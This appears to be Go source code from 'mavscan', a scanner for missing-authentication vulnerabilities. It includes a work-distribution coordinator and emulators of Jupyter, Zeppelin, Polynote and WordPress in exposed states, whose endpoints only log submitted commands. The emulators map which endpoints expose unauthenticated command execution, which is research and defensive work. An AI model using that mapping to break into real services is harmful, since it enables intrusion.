	if c.workers[req.Worker] == nil {
		return beatResponse{}, fmt.Errorf("fabric: unknown worker %q (join first)", req.Worker)
	}
	c.beat(req.Worker)
	return beatResponse{Done: c.isDone()}, nil
}

// serveComplete journals and merges one segment delta. Every completion
// is appended to the shared journal — duplicates included, because the
// journal's replay is keep-first and a double-completed segment is
// evidence worth keeping — but only the first delta is merged.
func (c *Coordinator) serveComplete(req completeRequest) (completeResponse, error) {
	if req.Ordinal < 0 || req.Ordinal >= len(c.segs) {
		return completeResponse{}, fmt.Errorf("fabric: completion for unknown segment %d", req.Ordinal)
	}
	part := &scanner.Report{}
	if err := json.Unmarshal(req.Delta, part); err != nil {
		return completeResponse{}, fmt.Errorf("fabric: segment %d delta: %w", req.Ordinal, err)
	}
	seg := c.segs[req.Ordinal]

	c.mu.Lock()
	defer c.mu.Unlock()
	c.sweep()
	c.beat(req.Worker)
	if store := c.cfg.Checkpoint.Store; store != nil {
		if err := store.Append(orchestrator.Record{
			RunID: c.runID, Kind: orchestrator.KindSegment,
			Shard: seg.Shard, Segment: seg.Ordinal,
			Watermark: seg.Hi, Payload: req.Delta,
		}); err != nil {
			return completeResponse{}, fmt.Errorf("fabric: journaling segment %d: %w", seg.Ordinal, err)
		}
	}
	if _, dup := c.parts[req.Ordinal]; dup {
		c.cfg.Telemetry.Event("fabric.segment.duplicate",
			"worker", req.Worker, "ordinal", strconv.Itoa(req.Ordinal))
		return completeResponse{Accepted: true, Duplicate: true}, nil
	}
	c.parts[req.Ordinal] = part
	delete(c.leases, req.Ordinal)
	// The ordinal may sit in pending too, re-queued by an expiry sweep
	// while this delta was in flight; purge it so it is never re-granted.
	if i := sort.SearchInts(c.pending, req.Ordinal); i < len(c.pending) && c.pending[i] == req.Ordinal {
		c.pending = append(c.pending[:i], c.pending[i+1:]...)
	}
	c.cfg.Progress.WorkerSegmentDone(req.Worker, seg.Shard, seg.Hi-seg.Lo, 0, c.cfg.Checkpoint.Store != nil)
	if c.tel != nil {
		g := c.tel.watermarks[req.Worker]
		if g == nil {
			g = c.tel.reg.Gauge(telemetry.Labeled(
				"mavscan_fabric_worker_watermark_addrs", "worker", req.Worker))
			c.tel.watermarks[req.Worker] = g
		}
		g.Add(int64(seg.Hi - seg.Lo))
	}
	c.cfg.Telemetry.Event("fabric.segment.done",
		"worker", req.Worker, "ordinal", strconv.Itoa(req.Ordinal))
	if c.isDone() {
		c.cfg.Progress.FinishFabric()
		c.cfg.Telemetry.Event("fabric.done", "segments", strconv.Itoa(len(c.segs)))
		close(c.done)
	}
	return completeResponse{Accepted: true}, nil
}

// Handler serves the wire protocol under /fabric/v1/. Mount it on the
// operations plane's loopback listener (obs.Listen) for multi-process
// runs, or behind a PipeTransport for hermetic ones.
func (c *Coordinator) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/fabric/v1/"+endpointJoin, func(w http.ResponseWriter, r *http.Request) {
		serveJSON(w, r, func(req joinRequest) (joinResponse, error) { return c.serveJoin(req) })
	})
	mux.HandleFunc("/fabric/v1/"+endpointLease, func(w http.ResponseWriter, r *http.Request) {
		serveJSON(w, r, func(req leaseRequest) (leaseResponse, error) { return c.serveLease(req) })
	})
	mux.HandleFunc("/fabric/v1/"+endpointBeat, func(w http.ResponseWriter, r *http.Request) {
		serveJSON(w, r, func(req beatRequest) (beatResponse, error) { return c.serveBeat(req) })
	})
	mux.HandleFunc("/fabric/v1/"+endpointComplete, func(w http.ResponseWriter, r *http.Request) {
		serveJSON(w, r, func(req completeRequest) (completeResponse, error) { return c.serveComplete(req) })
	})
	return mux
}

// serveJSON decodes one bounded JSON request, dispatches it, and writes
// the JSON reply. Handler errors become 400s: every defined failure in
// the protocol is a caller mistake (unknown worker, unknown segment,
// corrupt delta), and transport-level retries must not re-trigger them.
func serveJSON[Req, Resp any](w http.ResponseWriter, r *http.Request, fn func(Req) (Resp, error)) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST only", http.StatusMethodNotAllowed)
		return
	}
	var req Req
	body := http.MaxBytesReader(w, r.Body, maxWireBytes)
	if err := json.NewDecoder(body).Decode(&req); err != nil {
		http.Error(w, "fabric: decoding request: "+err.Error(), http.StatusBadRequest)
		return
	}
	resp, err := fn(req)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(resp); err != nil {
		// The reply is already partially written; nothing to repair.
		return
	}
}
