package fabric

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"
)

// httpCall POSTs one JSON request through client and decodes the bounded
// reply — the shared wire leg of both transports.
func httpCall(ctx context.Context, client *http.Client, base, endpoint string, req, resp any) error {
	body, err := json.Marshal(req)
	if err != nil {
		return fmt.Errorf("fabric: encoding %s request: %w", endpoint, err)
	}
	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost,
		base+"/fabric/v1/"+endpoint, bytes.NewReader(body))
	if err != nil {
		return err
	}
	httpReq.Header.Set("Content-Type", "application/json")
	res, err := client.Do(httpReq)
	if err != nil {
		return fmt.Errorf("fabric: %s call: %w", endpoint, err)
	}
	defer res.Body.Close()
	bounded := io.LimitReader(res.Body, maxWireBytes)
	if res.StatusCode != http.StatusOK {
		msg, err := io.ReadAll(io.LimitReader(bounded, 4096))
		if err != nil {
			msg = []byte(err.Error())
		}
		return fmt.Errorf("fabric: %s returned %d: %s", endpoint, res.StatusCode, bytes.TrimSpace(msg))
	}
	if err := json.NewDecoder(bounded).Decode(resp); err != nil {
		return fmt.Errorf("fabric: decoding %s reply: %w", endpoint, err)
	}
	return nil
}

// PipeTransport serves a coordinator's wire handler over an in-memory
// net.Pipe listener: the full HTTP protocol runs — request framing, body
// bounds, status codes — but no socket opens, keeping fabric tests
// hermetic. Break simulates a network partition (dials fail while the
// worker process stays alive), Heal reconnects.
type PipeTransport struct {
	lis    *pipeListener
	srv    *http.Server
	client *http.Client
	rt     *http.Transport
	done   chan struct{}

	mu     sync.Mutex
	broken bool
}

// NewPipeTransport starts serving c's handler over an in-memory listener
// and returns a ready transport. Close releases the serve loop.
func NewPipeTransport(c *Coordinator) *PipeTransport {
	t := &PipeTransport{
		lis:  &pipeListener{conns: make(chan net.Conn), closed: make(chan struct{})},
		srv:  &http.Server{Handler: c.Handler()},
		done: make(chan struct{}),
	}
	t.rt = &http.Transport{DialContext: t.dial}
	t.client = &http.Client{Transport: t.rt}
	go t.serve()
	return t
}

// serve owns the accept loop and the done channel.
func (t *PipeTransport) serve() {
	defer close(t.done)
	// The only exits are Close (ErrServerClosed) and listener close.
	_ = t.srv.Serve(t.lis)
}

// dial hands the server half of a fresh pipe to the accept loop and
// returns the client half — unless the transport is partitioned.
func (t *PipeTransport) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	t.mu.Lock()
	broken := t.broken
	t.mu.Unlock()
	if broken {
		return nil, errors.New("fabric: transport partitioned")
	}
	client, server := net.Pipe()
	select {
	case t.lis.conns <- server:
		return client, nil
	case <-t.lis.closed:
		if err := client.Close(); err != nil {
			return nil, err
		}
		return nil, errors.New("fabric: transport closed")
	case <-ctx.Done():
		if err := client.Close(); err != nil {
			return nil, err
		}
		return nil, ctx.Err()
	}
}

// Break partitions the transport: every new dial fails until Heal, and
// pooled idle connections are dropped so a keep-alive can't tunnel
// through the partition. A request already in flight still drains —
// like a real partition, packets already in the kernel arrive.
func (t *PipeTransport) Break() {
	t.mu.Lock()
	t.broken = true
	t.mu.Unlock()
	t.rt.CloseIdleConnections()
}

// Heal reconnects a Broken transport.
func (t *PipeTransport) Heal() {
	t.mu.Lock()
	t.broken = false
	t.mu.Unlock()
}

// Call implements Transport.
func (t *PipeTransport) Call(ctx context.Context, endpoint string, req, resp any) error {
	return httpCall(ctx, t.client, "http://fabric", endpoint, req, resp)
}

// Close stops the serve loop and waits for it to exit.
func (t *PipeTransport) Close() error {
	if err := t.srv.Close(); err != nil {
		return err
	}
	<-t.done
	return nil
}

// pipeListener is a net.Listener fed by dial: Accept receives the server
// half of each net.Pipe. Closing signals through a dedicated channel
// rather than closing conns, so a racing dial can never send on a closed
// channel.
type pipeListener struct {
	conns  chan net.Conn
	closed chan struct{}
	once   sync.Once
}

func (l *pipeListener) Accept() (net.Conn, error) {
	select {
	case conn := <-l.conns:
		return conn, nil
	case <-l.closed:
		return nil, errors.New("fabric: pipe listener closed")
	}
}

func (l *pipeListener) Close() error {
	l.once.Do(func() { close(l.closed) })
	return nil
}

func (l *pipeListener) Addr() net.Addr { return pipeAddr{} }

type pipeAddr struct{}

func (pipeAddr) Network() string { return "pipe" }
func (pipeAddr) String() string  { return "pipe" }

// HTTPTransport is the real-socket transport for multi-process runs,
// restricted to loopback. Construct with DialLoopback.
type HTTPTransport struct {
	base   string
	client *http.Client
}

// DialLoopback returns a Transport that POSTs the wire protocol to a
// coordinator served on a loopback address — the other end of the one
// sanctioned real socket (obs.Listen). Like the listener side it
// validates loopback-only before touching the network, and it is the
// matching function-scoped carve-out in mavlint's hermetic rule
// (hermeticFuncExempt in internal/lint/hermetic.go): everything else in
// this package reaches the network through an injected Transport.
func DialLoopback(addr string) (*HTTPTransport, error) {
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, fmt.Errorf("fabric: invalid coordinator address %q: %w", addr, err)
	}
	if host == "" || host == "localhost" {
		host = "127.0.0.1"
	}
	ip := net.ParseIP(host)
	if ip == nil {
		return nil, fmt.Errorf("fabric: coordinator host %q must be a loopback IP or localhost", host)
	}
	if !ip.IsLoopback() {
		return nil, fmt.Errorf("fabric: refusing non-loopback coordinator %q: the wire protocol is unauthenticated and must not cross a real network", addr)
	}
	dialer := &net.Dialer{Timeout: 5 * time.Second}
	client := &http.Client{Transport: &http.Transport{DialContext: dialer.DialContext}}
	return &HTTPTransport{
		base:   "http://" + net.JoinHostPort(host, port),
		client: client,
	}, nil
}

// Call implements Transport.
func (t *HTTPTransport) Call(ctx context.Context, endpoint string, req, resp any) error {
	return httpCall(ctx, t.client, t.base, endpoint, req, resp)
}
