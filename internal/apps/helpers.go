package apps

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"

	"mavscan/internal/mav"
)

// htmlPage writes a minimal but valid HTML document. Detection plugins
// parse these bodies, so the structure is real HTML.
func htmlPage(w http.ResponseWriter, status int, title, body string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.WriteHeader(status)
	fmt.Fprintf(w, "<!DOCTYPE html>\n<html><head><title>%s</title></head>\n<body>\n%s\n</body></html>\n", title, body)
}

// writeJSON writes v with the given status code. indent pretty-prints,
// which some plugins must survive (they strip whitespace before matching).
func writeJSON(w http.ResponseWriter, status int, v interface{}, indent bool) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	if indent {
		enc.SetIndent("", "  ")
	}
	_ = enc.Encode(v)
}

// maxJSONBody caps request bodies decoded by the simulated applications.
// Real deployments cap them too; more importantly the cap keeps a hostile
// peer (honeypot traffic replays arbitrary attacker payloads through these
// handlers) from holding an unbounded decode open.
const maxJSONBody = 1 << 20 // 1 MiB

// decodeJSON decodes a JSON request body through an explicit size bound.
// Every handler must use this instead of json.NewDecoder(r.Body) directly;
// the boundedread analyzer enforces it.
func decodeJSON(w http.ResponseWriter, r *http.Request, v interface{}) error {
	return json.NewDecoder(http.MaxBytesReader(w, r.Body, maxJSONBody)).Decode(v)
}

// assetLink renders a <link> or <script> tag for a static asset so the
// fingerprinting crawler can discover it from the landing page.
func assetLink(path string) string {
	if len(path) > 3 && path[len(path)-3:] == ".js" {
		return fmt.Sprintf("<script src=%q></script>", path)
	}
	return fmt.Sprintf("<link rel=\"stylesheet\" href=%q>", path)
}

// AssetBody generates the deterministic content of a static asset for a
// given application release. Real applications ship versioned static files;
// the fingerprinter's knowledge base stores their hashes. Deriving content
// from (app, version, path) reproduces exactly that property: same release,
// same bytes; different release, different bytes.
//
// A small set of paths is version-stable (shared across all releases) to
// exercise the fingerprinter's ambiguity handling.
func AssetBody(app mav.App, version, path string) []byte {
	if stableAssets[path] {
		version = "any"
	}
	sum := sha256.Sum256([]byte(fmt.Sprintf("%s|%s|%s", app, version, path)))
	return []byte(fmt.Sprintf("/* %s asset %s */\n%s\n", app, path, hex.EncodeToString(sum[:])))
}

// stableAssets lists asset paths whose content does not change between
// releases (e.g. a logo), which therefore cannot discriminate versions.
var stableAssets = map[string]bool{
	"/static/logo.css": true,
}

// AssetPaths returns the static asset paths a release of app serves. The
// fingerprinter's knowledge base is built from these same paths.
func AssetPaths(app mav.App) []string {
	switch app {
	case mav.WordPress:
		return []string{"/wp-includes/css/dist/block-library/style.min.css", "/wp-includes/js/wp-embed.min.js", "/static/logo.css"}
	case mav.Grav:
		return []string{"/system/assets/grav.css", "/system/assets/jquery/jquery.min.js", "/static/logo.css"}
	case mav.Joomla:
		return []string{"/media/jui/css/bootstrap.min.css", "/media/system/js/core.js", "/static/logo.css"}
	case mav.Drupal:
		return []string{"/core/assets/vendor/normalize-css/normalize.css", "/core/misc/drupal.js", "/static/logo.css"}
	case mav.Jenkins:
		return []string{"/static/jenkins/css/style.css", "/static/jenkins/scripts/hudson-behavior.js", "/static/logo.css"}
	case mav.GoCD:
		return []string{"/go/assets/application.css", "/go/assets/application.js", "/static/logo.css"}
	case mav.Hadoop:
		return []string{"/static/yarn.css", "/static/hadoop-st.png.css", "/static/logo.css"}
	case mav.Nomad:
		return []string{"/ui/assets/nomad-ui.css", "/ui/assets/vendor.js", "/static/logo.css"}
	case mav.Consul:
		return []string{"/ui/assets/consul-ui.css", "/ui/assets/vendor.js", "/static/logo.css"}
	case mav.Kubernetes:
		return nil // the API server serves no static assets
	case mav.Docker:
		return nil // the daemon API serves no static assets
	case mav.JupyterLab:
		return []string{"/static/lab/main.css", "/static/lab/bundle.js", "/static/logo.css"}
	case mav.JupyterNotebook:
		return []string{"/static/notebook/css/style.min.css", "/static/notebook/js/main.min.js", "/static/logo.css"}
	case mav.Zeppelin:
		return []string{"/assets/styles/zeppelin.css", "/assets/scripts/zeppelin.js", "/static/logo.css"}
	case mav.Polynote:
		return []string{"/static/style/polynote.css", "/static/dist/main.js", "/static/logo.css"}
	case mav.Ajenti:
		return []string{"/resources/all.css", "/resources/all.js", "/static/logo.css"}
	case mav.PhpMyAdmin:
		return []string{"/themes/pmahomme/css/theme.css", "/js/vendor/jquery/jquery.min.js", "/static/logo.css"}
	case mav.Adminer:
		return []string{"/adminer.css", "/static/functions.js", "/static/logo.css"}
	default:
		return []string{"/static/app.css", "/static/logo.css"}
	}
}

// serveAssets installs the release's static assets on mux.
func serveAssets(mux *http.ServeMux, app mav.App, version string) {
	for _, path := range AssetPaths(app) {
		body := AssetBody(app, version, path)
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/css")
			w.Write(body)
		})
	}
}

// assetLinks renders discovery tags for all assets of app.
func assetLinks(app mav.App) string {
	s := ""
	for _, p := range AssetPaths(app) {
		s += assetLink(p) + "\n"
	}
	return s
}

// notFound is a plain 404 page.
func notFound(w http.ResponseWriter) {
	htmlPage(w, http.StatusNotFound, "Not Found", "<h1>404 Not Found</h1>")
}
