package apps

import (
	"strings"
	"testing"
	"testing/quick"

	"mavscan/internal/mav"
)

// Tests for the secondary API surfaces real-world scanners touch.

func TestJenkinsAPIJSON(t *testing.T) {
	open, _ := New(Config{App: mav.Jenkins, AuthRequired: false})
	rec := get(t, open, "/api/json")
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `"mode":"NORMAL"`) {
		t.Fatalf("open /api/json: %d %q", rec.Code, rec.Body.String())
	}
	closed, _ := New(Config{App: mav.Jenkins, AuthRequired: true})
	if rec := get(t, closed, "/api/json"); rec.Code != 403 {
		t.Fatalf("secured /api/json: %d", rec.Code)
	}
	// The version header is stamped on both.
	if rec.Header().Get("X-Jenkins") != "" {
		return
	}
}

func TestDockerPingAndInfo(t *testing.T) {
	open, _ := New(Config{App: mav.Docker})
	if rec := get(t, open, "/_ping"); rec.Code != 200 || rec.Body.String() != "OK" {
		t.Fatalf("/_ping: %d %q", rec.Code, rec.Body.String())
	}
	rec := get(t, open, "/info")
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `"ServerVersion"`) {
		t.Fatalf("/info: %d %q", rec.Code, rec.Body.String())
	}
	closed, _ := New(Config{App: mav.Docker, AuthRequired: true})
	for _, path := range []string{"/_ping", "/info"} {
		if rec := get(t, closed, path); rec.Code != 403 {
			t.Errorf("secured %s: %d, want 403", path, rec.Code)
		}
	}
}

func TestKubernetesHealthEndpoints(t *testing.T) {
	// Health endpoints answer even on authenticated clusters (they are
	// commonly exempted), so both configurations serve them.
	for _, auth := range []bool{true, false} {
		inst, _ := New(Config{App: mav.Kubernetes, AuthRequired: auth})
		for _, path := range []string{"/healthz", "/livez"} {
			rec := get(t, inst, path)
			if rec.Code != 200 || rec.Body.String() != "ok" {
				t.Errorf("auth=%v %s: %d %q", auth, path, rec.Code, rec.Body.String())
			}
		}
	}
}

func TestConsulCatalogAndLeader(t *testing.T) {
	inst, _ := New(Config{App: mav.Consul})
	rec := get(t, inst, "/v1/catalog/nodes")
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `"Node":"consul-0"`) {
		t.Fatalf("/v1/catalog/nodes: %d %q", rec.Code, rec.Body.String())
	}
	if rec := get(t, inst, "/v1/status/leader"); rec.Code != 200 {
		t.Fatalf("/v1/status/leader: %d", rec.Code)
	}
}

func TestNomadStatusLeaderACLGate(t *testing.T) {
	open, _ := New(Config{App: mav.Nomad, AuthRequired: false})
	if rec := get(t, open, "/v1/status/leader"); rec.Code != 200 {
		t.Fatalf("open leader endpoint: %d", rec.Code)
	}
	closed, _ := New(Config{App: mav.Nomad, AuthRequired: true})
	if rec := get(t, closed, "/v1/status/leader"); rec.Code != 403 {
		t.Fatalf("ACL-protected leader endpoint: %d, want 403", rec.Code)
	}
}

func TestGoCDHealth(t *testing.T) {
	inst, _ := New(Config{App: mav.GoCD, AuthRequired: true})
	if rec := get(t, inst, "/go/api/v1/health"); rec.Code != 200 {
		t.Fatalf("health endpoint: %d", rec.Code)
	}
}

// TestVulnerableIsPureFunctionOfConfig: for arbitrary option combinations,
// Vulnerable() must be deterministic and stable across calls (a property
// the honeypot snapshot/restore machinery relies on).
func TestVulnerableIsPureFunctionOfConfig(t *testing.T) {
	appsInScope := mav.InScopeApps()
	f := func(appIdx uint8, installed, auth, o1, o2 bool) bool {
		info := appsInScope[int(appIdx)%len(appsInScope)]
		cfg := Config{
			App:          info.App,
			Installed:    installed,
			AuthRequired: auth,
			Options: map[string]bool{
				"enableScriptChecks": o1,
				"autologin":          o1,
				"allowNoPassword":    o1,
				"emptyDBPassword":    o2,
			},
		}
		a, err := New(cfg)
		if err != nil {
			return false
		}
		b, err := New(cfg)
		if err != nil {
			return false
		}
		return a.Vulnerable() == b.Vulnerable() && a.Vulnerable() == a.Vulnerable()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Fatal(err)
	}
}

// TestSnapshotRestoreRoundTripProperty: restoring a snapshot always brings
// Vulnerable() back to the snapshotted value, whatever happened in
// between.
func TestSnapshotRestoreRoundTripProperty(t *testing.T) {
	appsInScope := mav.InScopeApps()
	f := func(appIdx uint8, flipAuth, install bool) bool {
		info := appsInScope[int(appIdx)%len(appsInScope)]
		cfg := Config{App: info.App, Options: map[string]bool{}}
		cfg.AuthRequired = !InsecureDefault(info.App, LatestVersion(info.App))
		inst, err := New(cfg)
		if err != nil {
			return false
		}
		before := inst.Vulnerable()
		snap := inst.Snapshot()
		if flipAuth {
			inst.SetAuthRequired(!inst.AuthRequired())
		}
		if install {
			inst.CompleteInstall("x", "y")
		}
		inst.SetOption("enableScriptChecks", true)
		inst.Restore(snap)
		return inst.Vulnerable() == before
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Fatal(err)
	}
}
