package apps

import (
	"fmt"
	"net/http"

	"mavscan/internal/mav"
)

// Notebook emulators: Jupyter Lab, Jupyter Notebook, Apache Zeppelin,
// Polynote, Spark Notebook. Notebooks ship a web terminal or code cells,
// so an unauthenticated notebook is direct system command execution.

func init() {
	register(mav.JupyterLab, func(inst *Instance) http.Handler { return buildJupyter(inst, "JupyterLab") })
	register(mav.JupyterNotebook, func(inst *Instance) http.Handler { return buildJupyter(inst, "Jupyter Notebook") })
	register(mav.Zeppelin, buildZeppelin)
	register(mav.Polynote, buildPolynote)
	register(mav.SparkNotebook, buildSparkNotebook)
}

// buildJupyter emulates both Jupyter products, which share the /api surface
// but brand themselves differently — the branding string is what tells the
// two detection plugins apart.
func buildJupyter(inst *Instance, brand string) http.Handler {
	app := inst.App()
	mux := http.NewServeMux()
	loginRedirect := func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/login?next="+r.URL.Path, http.StatusFound)
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		if inst.AuthRequired() {
			loginRedirect(w, r)
			return
		}
		slug := "jupyter-notebook"
		if app == mav.JupyterLab {
			slug = "jupyterlab"
		}
		htmlPage(w, http.StatusOK, brand,
			fmt.Sprintf(`<div id="%s-main-app" data-%s-api-url="/api">%s</div>%s`, slug, slug, brand, assetLinks(app)))
	})
	mux.HandleFunc("/login", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, brand+" Login",
			`<form action="/login" method="post"><label>Password or token:</label><input type="password" name="password"></form>`)
	})
	mux.HandleFunc("/api", func(w http.ResponseWriter, r *http.Request) {
		// The version endpoint answers without authentication, as deployed
		// Jupyter servers commonly do; the fingerprinter reads it.
		writeJSON(w, http.StatusOK, map[string]string{"version": inst.Version()}, false)
	})
	// The MAV detection endpoint: the terminals API is only reachable when
	// no password is configured.
	mux.HandleFunc("/api/terminals", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			writeJSON(w, http.StatusForbidden, map[string]string{"message": "Forbidden"}, false)
			return
		}
		if r.Method == http.MethodPost {
			writeJSON(w, http.StatusOK, map[string]string{"name": "1", "app": brand}, false)
			return
		}
		writeJSON(w, http.StatusOK, []map[string]string{{"name": "1", "app": brand}}, false)
	})
	// Terminal input: the emulated equivalent of the websocket channel a
	// real attack drives; each submitted line reaches the shell.
	mux.HandleFunc("/api/terminals/1/input", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			writeJSON(w, http.StatusForbidden, map[string]string{"message": "Forbidden"}, false)
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"message": "method not allowed"}, false)
			return
		}
		var in struct {
			Command string `json:"command"`
		}
		if err := decodeJSON(w, r, &in); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"message": err.Error()}, false)
			return
		}
		if in.Command != "" {
			inst.recordExec(r, "terminal", in.Command)
		}
		writeJSON(w, http.StatusOK, map[string]string{"status": "ok"}, false)
	})
	serveAssets(mux, app, inst.Version())
	return mux
}

func buildZeppelin(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		htmlPage(w, http.StatusOK, "Zeppelin",
			`<div id="zeppelin-app" class="notebook-app">Welcome to Zeppelin!</div>`+assetLinks(mav.Zeppelin))
	})
	mux.HandleFunc("/api/version", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"status": "OK", "message": "Zeppelin version",
			"body": map[string]string{"version": inst.Version()},
		}, false)
	})
	mux.HandleFunc("/api/notebook", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			writeJSON(w, http.StatusUnauthorized, map[string]interface{}{"status": "UNAUTHORIZED", "message": "login first"}, false)
			return
		}
		if r.Method == http.MethodPost {
			var note struct {
				Name       string `json:"name"`
				Paragraphs []struct {
					Text string `json:"text"`
				} `json:"paragraphs"`
			}
			if err := decodeJSON(w, r, &note); err != nil {
				writeJSON(w, http.StatusBadRequest, map[string]interface{}{"status": "BAD_REQUEST", "message": err.Error()}, false)
				return
			}
			for _, p := range note.Paragraphs {
				if len(p.Text) > 3 && p.Text[:3] == "%sh" {
					inst.recordExec(r, "sh-paragraph", p.Text[3:])
				}
			}
			writeJSON(w, http.StatusOK, map[string]interface{}{"status": "OK", "message": "", "body": "2GE79Y5FV"}, false)
			return
		}
		// The exact body prefix the detection plugin matches on.
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"status":"OK","message":"","body":[{"id":"2A94M5J1Z","name":"Zeppelin Tutorial"}]}`)
	})
	serveAssets(mux, mav.Zeppelin, inst.Version())
	return mux
}

func buildPolynote(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		htmlPage(w, http.StatusOK, "Polynote",
			`<div id="Main" class="polynote-app">Polynote: the polyglot notebook</div>`+assetLinks(mav.Polynote))
	})
	// Polynote has no authentication at all; the kernel endpoint models
	// the websocket a real client uses for code execution.
	mux.HandleFunc("/ws", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"message": "method not allowed"}, false)
			return
		}
		var msg struct {
			Cell string `json:"cell"`
			Code string `json:"code"`
		}
		if err := decodeJSON(w, r, &msg); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"message": err.Error()}, false)
			return
		}
		if msg.Code != "" {
			inst.recordExec(r, "kernel-exec", msg.Code)
		}
		writeJSON(w, http.StatusOK, map[string]string{"status": "queued"}, false)
	})
	serveAssets(mux, mav.Polynote, inst.Version())
	return mux
}

func buildSparkNotebook(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		// Discontinued since 2019; excluded from the study. The emulator
		// exists so population tests can prove the pipeline ignores it.
		htmlPage(w, http.StatusOK, "Spark Notebook",
			`<div class="spark-notebook">Spark Notebook (discontinued)</div>`)
	})
	return mux
}
