package apps

import (
	"fmt"
	"net/http"

	"mavscan/internal/mav"
)

// Content management system emulators: Ghost, WordPress, Grav, Joomla,
// Drupal. Except for Ghost (out of scope: no code execution), all are
// vulnerable exactly while their web installation has not been completed —
// the trust-on-first-use MAV. Completing the installation sets the admin
// password; whoever holds it can edit PHP templates and thereby execute
// system commands.

func init() {
	register(mav.Ghost, buildGhost)
	register(mav.WordPress, buildWordPress)
	register(mav.Grav, buildGrav)
	register(mav.Joomla, buildJoomla)
	register(mav.Drupal, buildDrupal)
}

func buildGhost(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		htmlPage(w, http.StatusOK, "Ghost",
			`<meta name="generator" content="Ghost `+inst.Version()+`"><div class="site-content">Thoughts, stories and ideas.</div><a href="/ghost/">Sign in</a>`)
	})
	mux.HandleFunc("/ghost/", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "Ghost Admin",
			`<form id="login"><input name="identification"><input type="password" name="password"></form>`)
	})
	return mux
}

func buildWordPress(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		if !inst.Installed() {
			http.Redirect(w, r, "/wp-admin/install.php", http.StatusFound)
			return
		}
		htmlPage(w, http.StatusOK, "Just another WordPress site",
			fmt.Sprintf(`<meta name="generator" content="WordPress %s">
<link rel="https://api.w.org/" href="/wp-json/">
<div id="content" class="wp-content">Hello world! Welcome to WordPress.</div>
<a href="/wp-login.php">Log in</a>
%s`, inst.Version(), assetLinks(mav.WordPress)))
	})
	// The MAV detection endpoint: the installer's step-1 form with the
	// admin password field is served until the installation completes.
	mux.HandleFunc("/wp-admin/install.php", func(w http.ResponseWriter, r *http.Request) {
		if inst.Installed() {
			htmlPage(w, http.StatusOK, "WordPress &rsaquo; Installation",
				`<h1>Already Installed</h1><p>You appear to have already installed WordPress.</p>`)
			return
		}
		if r.Method == http.MethodPost && r.URL.Query().Get("step") == "2" {
			pass := r.FormValue("admin_password")
			if pass == "" {
				htmlPage(w, http.StatusBadRequest, "WordPress &rsaquo; Installation", "<p>Please provide a password.</p>")
				return
			}
			inst.CompleteInstall(peerAddr(r).String(), pass)
			htmlPage(w, http.StatusOK, "WordPress &rsaquo; Installation", "<h1>Success!</h1><p>WordPress has been installed.</p>")
			return
		}
		htmlPage(w, http.StatusOK, "WordPress &rsaquo; Installation",
			`<h1>Welcome to WordPress!</h1>
<form id="setup" method="post" action="install.php?step=2" novalidate="novalidate">
<input name="weblog_title" type="text">
<input name="user_name" type="text">
<input type="password" name="admin_password" id="pass1">
<input type="submit" value="Install WordPress">
</form>`)
	})
	mux.HandleFunc("/wp-login.php", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "Log In &lsaquo; WordPress",
			`<form name="loginform" action="/wp-login.php" method="post"><input name="log"><input type="password" name="pwd"></form>`)
	})
	mux.HandleFunc("/wp-json/", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"name": "WordPress Site", "namespaces": []string{"wp/v2"},
		}, false)
	})
